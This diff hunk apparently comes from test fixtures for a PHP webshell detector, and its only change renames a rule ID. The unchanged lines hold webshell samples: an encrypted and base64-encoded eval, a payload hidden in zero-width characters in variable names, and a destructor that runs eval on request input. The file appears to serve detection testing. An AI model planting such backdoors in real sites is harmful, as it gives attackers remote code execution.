@@ -140,7 +140,7 @@ eval(openssl_decrypt(base64_decode('${b64('0123456789abcdef'.repeat(8))}'), 'AES
 ${Array.from({ length: 10 }, (_x, i) => `$v${'\u200b\u200c\u200d'.repeat(2 + (i % 3))}${i} = ${i};`).map((l) => Buffer.from(l, 'utf8').toString('latin1')).join('\n')}
 $lines = file(__FILE__);
 foreach ($lines as $l) { /* the names' invisible letters are the payload's bits */ }`],
-  ['a destructor running a property the request set through references', 'mamori_php_magic_method_eval', '/www/d.php', `<?php
+  ['a destructor running a property the request set through references', 'mamori:magic-method-eval', '/www/d.php', `<?php
 class Q { public $c = ''; function __destruct() { return eval(substr($this->c, 0)); } }
 $q = new Q();
 $a = &$b; $b = $_REQUEST['p'];
